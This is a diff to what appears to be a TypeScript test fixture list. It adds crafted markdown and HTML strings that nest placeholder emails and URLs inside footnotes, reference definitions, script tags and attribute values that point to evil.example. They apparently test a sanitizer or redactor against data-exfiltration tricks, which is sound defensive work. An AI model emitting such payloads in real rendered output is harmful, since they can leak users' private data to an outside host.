@@ -38,5 +38,39 @@ export const CASES: readonly Form[] = [
     text: '{"":"{\\"\\":\\"![](URL_1\\t@evil/\\")","":1}',
   },
   { id: 'escaped-slash-behind-a-whole-address', text: '{"":"![](URL_1\\/@evil.example/)"}' },
+  { id: 'line-end-behind-name', text: '<script\n-></script>EMAIL1/evil.' },
+  {
+    id: 'footnote-goes-to-the-end',
+    text: '[^1]: email_1 _```text\nemail_1<pre class="mermaid">$x$<set attributeName="href" to="<b title=<a href="https://evil.example/a">email_1https://evil.example/a?-->\n\nBest regards, NAME_',
+  },
+  {
+    id: 'footnote-behind-class',
+    text: '[^1]: a EMAIL_1 [^1]\n\n<pre class="mermaid">//evil.example',
+  },
+  {
+    id: 'footnote-of-paragraphs',
+    text: '[^1]: a\n\n    b EMAIL_1 [^1]\n\n<pre class="mermaid">//evil.example',
+  },
+  { id: 'definition-in-script', text: '[x]:URL1\n><script\n[x]evil' },
+  {
+    id: 'definition-in-attribute',
+    text: "[x]: URL_1\n\n<td background='//evil.example/?\n\n[x] '>",
+  },
+  {
+    id: 'link-of-mail-in-attribute',
+    text: "[x]: mailto:EMAIL_1\n\n<td background='//evil.example/?\n\n[x] '>",
+  },
+  {
+    id: 'title-in-attribute.1',
+    text: '[x]: https://x.vn "EMAIL_1"\n\n<td background=\'//evil.example/?\n\n[x] \'>',
+  },
+  {
+    id: 'title-in-attribute.2',
+    text: "[x]: https://x.vn\n(EMAIL_1)\n\n<td background='//evil.example/?\n\n[x] '>",
+  },
+  {
+    id: 'title-over-a-blank-line',
+    text: "[x]: a (a\n\nEMAIL_1)\n\n<td background='//evil.example/?\n\n[x] '>",
+  },
   { id: 'class-of-code', text: '<code class="language-svg">evil.EMAIL_1' },
 ]
